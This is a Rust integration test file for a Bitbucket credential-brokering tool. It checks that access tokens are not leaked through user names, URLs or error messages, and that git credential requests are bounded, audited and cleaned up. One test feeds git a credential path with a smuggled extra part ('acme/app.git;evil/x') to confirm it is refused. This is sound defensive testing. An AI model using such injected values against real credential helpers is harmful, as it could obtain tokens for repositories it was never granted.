        run.describe()
    );
    agent.assert_nothing_reached_the_attacker(&run, "token as user name, helper");
    // askpass alone refuses such a user name itself (before the broker).
    let run = agent.exec(
        &["--audit-log", "-"],
        &format!("GIT_CONFIG_VALUE_1= \"$GIT\" ls-remote '{url}/acme/app.git'"),
    );
    assert_ne!(run.code(), 0, "{}", run.describe());
    assert!(run.stderr.contains("askpass"), "{}", run.describe());
    agent.assert_nothing_reached_the_attacker(&run, "token as user name, askpass");
    // And in an option's error: the URL does not parse (port 99999), and
    // still its userinfo is not echoed.
    let output = agent
        .bb
        .command()
        .args(["check", "--repo", "acme/app", "--git-url"])
        .arg(format!("https://x:{LONG_ACCESS_TOKEN}@bitbucket.org:99999"))
        .stdin(Stdio::null())
        .output()
        .expect("run");
    let run = Run::from(output);
    assert_eq!(run.code(), 2, "{}", run.describe());
    assert!(run.stderr.contains("--git-url"), "{}", run.describe());
    assert_no_leak(
        &run,
        agent.bb.dir.path(),
        LONG_ACCESS_TOKEN,
        &[TOKEN_USER],
        &[],
    );
}

#[test]
fn check_reads_gitmodules_bounded_without_blocking_and_with_gits_parser() {
    let bb = Bb::new().env("BITBUCKET_ACCESS_TOKEN", LONG_ACCESS_TOKEN);
    let check = |bb: &Bb| {
        let output = bb
            .bounded(20)
            .args(["check", "--repo", "acme/app", "--retries", "0"])
            .args([
                "--api-url",
                "http://127.0.0.1:9/2.0",
                "--git-url",
                "http://127.0.0.1:9",
            ])
            .output()
            .expect("run");
        Run::from(output)
    };
    // A FIFO (open would wait for a writer) and a link to /dev/zero (an
    // endless read): skipped, and check ends with its own verdict.
    let gitmodules = bb.path(".gitmodules");
    assert!(
        std::process::Command::new("mkfifo")
            .arg(&gitmodules)
            .status()
            .expect("mkfifo")
            .success()
    );
    let run = check(&bb);
    assert_eq!(run.code(), 5, "a FIFO: {}", run.describe());
    std::fs::remove_file(&gitmodules).expect("rm");
    std::os::unix::fs::symlink("/dev/zero", &gitmodules).expect("symlink");
    let run = check(&bb);
    assert_eq!(run.code(), 5, "/dev/zero: {}", run.describe());
    std::fs::remove_file(&gitmodules).expect("rm");
    // What git reads is what is checked: a one-line section and a comment.
    std::fs::write(
        &gitmodules,
        "[submodule \"lib\"] url = git@127.0.0.1:acme/lib.git ; moved to ssh\n",
    )
    .expect("write");
    let run = check(&bb);
    assert!(
        run.stdout
            .contains("submodule lib in .gitmodules uses the SSH URL git@127.0.0.1:acme/lib.git:"),
        "{}",
        run.describe()
    );
}

#[test]
fn a_path_that_names_no_repository_is_said_to_be_one() {
    let agent = Agent::first();
    let script = format!(
        "printf 'protocol=http\\nhost=127.0.0.1:{}\\npath=acme/app.git;evil/x\\n\\n' | \"$GIT\" credential fill",
        agent.server.port()
    );
    let run = agent.exec(&["--allow-repo", "acme/app", "--audit-log", "-"], &script);
    assert!(!run.stdout.contains("password="), "{}", run.describe());
    assert!(
        run.stderr
            .contains("(acme/app.git;evil/x) does not name a repository")
            && !run.stderr.contains("credential.useHttpPath is off"),
        "{}",
        run.describe()
    );
    assert!(
        run.stderr
            .contains("\"reason\":\"path-names-no-repository\""),
        "{}",
        run.describe()
    );
}

#[test]
fn every_catchable_terminating_signal_reaches_the_child_and_nothing_is_left_behind() {
    use std::io::Read as _;
    for (name, code) in [("USR1", 10), ("USR2", 12), ("ALRM", 14)] {
        let bb = Bb::new().env("BITBUCKET_ACCESS_TOKEN", LONG_ACCESS_TOKEN);
        let mut child = bb
            .command()
            .args(["exec", "--no-preflight", "--", "sh", "-c"])
            .arg(format!(
                "trap 'echo got-{name}; exit {}' {name}; echo ready; i=0; \
                 while [ $i -lt 600 ]; do sleep 0.05; i=$((i+1)); done",
                128 + code
            ))
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("spawn");
        let mut stdout = child.stdout.take().expect("stdout");
        let mut ready = [0u8; 6];
        stdout.read_exact(&mut ready).expect("ready");
        let runtime_dirs = || {
            std::fs::read_dir(bb.dir.path())
                .expect("readdir")
                .flatten()
                .filter(|e| e.file_name().to_string_lossy().starts_with("bbi-"))
                .count()
        };
        assert_eq!(runtime_dirs(), 1);
        std::process::Command::new("kill")
            .args([&format!("-{name}"), &child.id().to_string()])
            .status()
            .expect("kill");
        let status = child.wait().expect("wait");
        let mut rest = String::new();
        stdout.read_to_string(&mut rest).expect("read");
        assert_eq!(status.code(), Some(128 + code), "{name}: {rest}");
        assert!(rest.contains(&format!("got-{name}")), "{name}: {rest}");
        assert_eq!(runtime_dirs(), 0, "{name}: runtime directory left behind");
    }
}

#[test]
fn audit_records_are_never_lost_without_a_word() {
    let agent = Agent::first();
    let log = agent.bb.path("audit.jsonl");
    let ls_remote = format!(
        "\"$GIT\" ls-remote -q {}/acme/app.git >/dev/null",
        agent.server.url()
    );
    // The build deletes the log mid-run (`git clean -fdx`): later records
    // are at the path again, not in an unlinked inode.
    let run = agent.exec(
        &["--audit-log", &log.display().to_string()],
        &format!(
            "{ls_remote} && rm {log} && {ls_remote}",
            log = log.display()
        ),
    );
    assert_eq!(run.code(), 0, "{}", run.describe());
    let text = std::fs::read_to_string(&log).expect("the log is there again");
    assert!(text.contains("\"decision\":\"granted\""), "{text}");
    assert!(
        run.stderr.contains("deleted or replaced"),
        "{}",
        run.describe()
    );
    std::fs::remove_file(&log).expect("rm");
    // The path cannot be written again: a warning at once, and the step fails.
    let run = agent.exec(
        &["--audit-log", &log.display().to_string()],
        &format!(
            "rm {log} && mkdir {log} && {ls_remote} && echo cloned",
            log = log.display()
        ),
    );
    assert!(run.stdout.contains("cloned"), "{}", run.describe());
    assert_eq!(run.code(), 2, "{}", run.describe());
    assert!(
        run.stderr.contains("records are being lost")
            && run.stderr.contains("audit record(s) could not be written"),
        "{}",
        run.describe()
    );
}

#[test]
fn reports_that_cannot_be_written_are_not_lost_without_a_word() {
    let bb = Bb::new().env("BITBUCKET_ACCESS_TOKEN", LONG_ACCESS_TOKEN);
    let repo = bb.path("work");
    std::fs::create_dir(&repo).expect("mkdir");
    run_git(&repo, &["init", "--quiet"]);
    for args in [
        vec!["check".to_owned(), "--format".into(), "json".into()],
        vec![
            "scrub".into(),
            "--format".into(),
            "json".into(),
            repo.display().to_string(),
        ],
    ] {
        let full = std::fs::OpenOptions::new()
            .write(true)
            .open("/dev/full")
            .expect("/dev/full");
        let output = bb
            .command()
            .args(&args)
            .stdin(Stdio::null())
            .stdout(full)
            .stderr(Stdio::piped())
            .output()
            .expect("run");
        let run = Run::from(output);
        assert_eq!(run.code(), 2, "{args:?}: {}", run.describe());
        assert!(
            run.stderr.contains("cannot write the report to stdout"),
            "{args:?}: {}",
            run.describe()
        );
    }
    // A reader that stops early is not a failure.
    let run = bb.shell(
        "sh",
        &format!(
            "'{}' check | head -c 1 >/dev/null; echo \"rc=${{PIPESTATUS:-x}}\"",
            assert_cmd::cargo::cargo_bin!("bbinject").display()
        ),
    );
    assert!(
        !run.stderr.contains("cannot write the report"),
        "{}",
        run.describe()
    );
}
